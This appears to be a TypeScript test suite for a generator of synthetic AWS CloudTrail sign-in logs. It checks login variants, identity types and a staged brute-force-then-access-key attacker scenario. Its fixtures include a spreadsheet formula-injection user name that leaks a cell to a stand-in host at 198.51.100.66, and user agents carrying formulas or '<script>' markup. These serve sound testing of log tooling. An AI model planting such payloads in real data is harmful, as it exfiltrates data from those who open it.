import type { CloudTrailRecord } from '../../src/sample/record.ts';
import { logFilesOf, recordsOf } from './log-files.ts';

const DAY = '2025-10-31';
const options = { days: 1, events: 400, seed: 1 };
const records = recordsOf(options);
const logins = records.filter(({ eventName }) => eventName === 'ConsoleLogin');

const isA = (type: string) => (login: CloudTrailRecord) => login.userIdentity.type === type;
const [isUser, isRoot, isRole] = [isA('IAMUser'), isA('Root'), isA('AssumedRole')];
const worked = ({ responseElements }: CloudTrailRecord) =>
  (responseElements as { ConsoleLogin: string }).ConsoleLogin === 'Success';
const mfa = ({ additionalEventData }: CloudTrailRecord) => additionalEventData?.MFAUsed;
const isHidden = ({ userIdentity }: CloudTrailRecord) =>
  userIdentity.userName === 'HIDDEN_DUE_TO_SECURITY_REASONS';
const timeOrder = (a: CloudTrailRecord, b: CloudTrailRecord) => (a.eventTime < b.eventTime ? -1 : 1);

test.each<[string, (login: CloudTrailRecord) => boolean]>([
  ['an IAM user with MFA', (login) => isUser(login) && worked(login) && mfa(login) === 'Yes'],
  ['an IAM user with MFA, in the old spelling', (login) => isUser(login) && mfa(login) === 'YES'],
  ['an IAM user without MFA', (login) => isUser(login) && worked(login) && mfa(login) === 'No'],
  ['a wrong password', (login) => isUser(login) && login.errorMessage === 'Failed authentication'],
  ['an unknown user name', (login) => isHidden(login) && !worked(login)],
  ['root with MFA', (login) => isRoot(login) && worked(login) && mfa(login) === 'Yes'],
  ['root with a wrong password', (login) => isRoot(login) && !worked(login)],
  [
    'SAML',
    (login) => isRole(login) && `${login.additionalEventData?.SamlProviderArn}`.includes(':saml-provider/'),
  ],
  ['Identity Center', (login) => `${login.userIdentity.arn}`.includes(':assumed-role/AWSReservedSSO_')],
  ['a federation token', isA('FederatedUser')],
  ['us-east-1', ({ awsRegion }) => awsRegion === 'us-east-1'],
  ['us-east-2', ({ awsRegion }) => awsRegion === 'us-east-2'],
  ['ap-southeast-2', ({ awsRegion }) => awsRegion === 'ap-southeast-2'],
  ['a regional endpoint', (login) => isUser(login) && login.awsRegion === 'ap-northeast-1'],
  ['an IPv6 address', ({ sourceIPAddress }) => sourceIPAddress.startsWith('2001:db8:')],
  ['a browser that is a formula', ({ userAgent }) => `${userAgent}`.startsWith('=HYPERLINK(')],
  ['a browser that is markup', ({ userAgent }) => `${userAgent}`.includes('<script>')],
])('there is a sign-in by or from %s', (_, kind) => {
  expect(logins.filter(kind)).not.toEqual([]);
});

test.each(['CheckMfa', 'SwitchRole', 'PasswordUpdated', 'UserAuthentication'])('there is %s', (eventName) => {
  const sources = records
    .filter((record) => record.eventName === eventName)
    .map((record) => record.eventSource);
  expect(sources).toContain('signin.amazonaws.com');
});

test.each(['田中太郎', '=HYPERLINK("http://198.51.100.66/?leak="&A1,"open")', '=1+1@example.com'])(
  'there is an IAM user named %s',
  (name) => {
    expect(records.map(({ userIdentity }) => userIdentity.userName)).toContain(name);
  },
);

test('there is every type of identity, an unknown one, and none', () => {
  const known = [
    'AWSAccount',
    'AWSService',
    'AssumedRole',
    'FederatedUser',
    'IAMUser',
    'IdentityCenterUser',
    'Root',
  ];
  const found = new Set(records.map(({ userIdentity }) => userIdentity.type));
  expect([...found].sort()).toEqual([...known, 'SAMLUser', 'Unknown', 'WebIdentityUser', undefined]);
});

test('there are values of unusual JSON types', () => {
  const typesOf = (field: string) => [...new Set(records.map((record) => typeof record[field]))];
  expect(typesOf('readOnly')).toEqual(expect.arrayContaining(['boolean', 'string']));
  expect(typesOf('userAgent')).toEqual(expect.arrayContaining(['object', 'string']));
  expect(typesOf('requestParameters')).toEqual(expect.arrayContaining(['object', 'string']));
  expect(typesOf('sessionCredentialFromConsole')).toEqual(expect.arrayContaining(['boolean', 'string']));
});

test('a role assumed from another account is logged in both, with one sharedEventID', () => {
  const [one, other, ...more] = records.filter(({ sharedEventID }) => sharedEventID !== undefined);
  expect(more).toEqual([]);
  expect([one?.recipientAccountId, other?.recipientAccountId].sort()).toEqual([
    '222233334444',
    '444455556666',
  ]);
  expect([one?.userIdentity.type, other?.userIdentity.type].sort()).toEqual(['AWSAccount', 'AssumedRole']);
  expect(one?.sharedEventID).toBe(other?.sharedEventID);
  expect(one?.eventID).not.toBe(other?.eventID);
});

test('an attacker fails to sign in fourteen times, then succeeds and makes an access key for another user', () => {
  const deeds = records
    .filter(
      ({ sourceIPAddress, eventTime }) => sourceIPAddress === '198.51.100.66' && eventTime < `${DAY}T19`,
    )
    .sort(timeOrder);
  const signIns = deeds.filter(({ eventName }) => eventName === 'ConsoleLogin').map(worked);
  expect(signIns).toEqual([...Array(14).fill(false), true]);
  const after = deeds.slice(15);
  expect(after.every(({ userIdentity }) => userIdentity.userName === 'legacy-report')).toBe(true);
  const keys = after.filter(({ eventName }) => eventName === 'CreateAccessKey');
  expect(keys.map(({ requestParameters }) => requestParameters)).toContainEqual({ userName: 'backup-agent' });
  expect(after.filter(({ errorCode }) => errorCode).length).toBeGreaterThan(2);
});

test('two sign-ins are delivered on the next day: one late, one from just before midnight', () => {
  const nextDay = logFilesOf(options).filter(({ day }) => day === '2025-11-01');
  const late = nextDay
    .flatMap((file) => file.records)
    .filter(({ eventName }) => eventName === 'ConsoleLogin');
  expect(late.map(({ eventTime }) => eventTime.slice(11, 16)).sort()).toEqual(
    expect.arrayContaining(['20:14', '23:59']),
  );
});

describe('the record of a sign-in', () => {
  test('hides an unknown name, and has neither ARN nor principal', () => {
    for (const { userIdentity, errorMessage } of logins.filter(isHidden)) {
      expect(Object.keys(userIdentity).sort()).toEqual(['accessKeyId', 'accountId', 'type', 'userName']);
      expect(errorMessage).toBe('No username found in supplied account');
    }
  });

  test('has the name but no ARN after a wrong password', () => {
    const failed = logins.filter((login) => isUser(login) && !worked(login) && !isHidden(login));
    for (const { userIdentity } of failed) {
      expect(userIdentity.userName).toMatch(/./);
      expect(userIdentity).not.toHaveProperty('arn');
    }
  });

  test('has no user name for root', () => {
    for (const { userIdentity } of records.filter(isRoot))
      expect(userIdentity).not.toHaveProperty('userName');
  });

  test('says No to MFA for people from a provider', () => {
    expect(new Set(logins.filter(isRole).map(mfa))).toEqual(new Set(['No']));
  });
});
